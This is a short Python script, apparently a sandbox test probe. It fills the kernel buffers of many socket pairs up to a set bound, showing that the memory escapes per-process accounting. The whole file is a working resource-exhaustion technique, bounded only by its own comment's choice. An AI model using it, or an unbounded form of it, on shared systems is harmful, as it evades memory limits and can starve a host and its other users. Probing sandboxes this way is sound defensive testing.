import socket
import time

# What waits in a socket's buffer belongs to the kernel: no process's resident memory shows it. Twice the
# limit on memory is enough to show it; a real attack would go on.
ENOUGH = 440 << 20
BLOCK = b"x" * 65536
held, total = [], 0
try:
    while total < ENOUGH:
        pair = socket.socketpair()
        held.append(pair)
        for each in pair:
            each.setblocking(False)
            try:
                each.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
            except OSError:
                pass
            try:
                while total < ENOUGH:
                    total += each.send(BLOCK)
            except BlockingIOError:
                pass
except OSError:
    pass
time.sleep(1.5)
if total >= ENOUGH:
    print(f"REACHED {total >> 20} MiB that nobody counts", flush=True)
print("TRIED 1", flush=True)
raise SystemExit
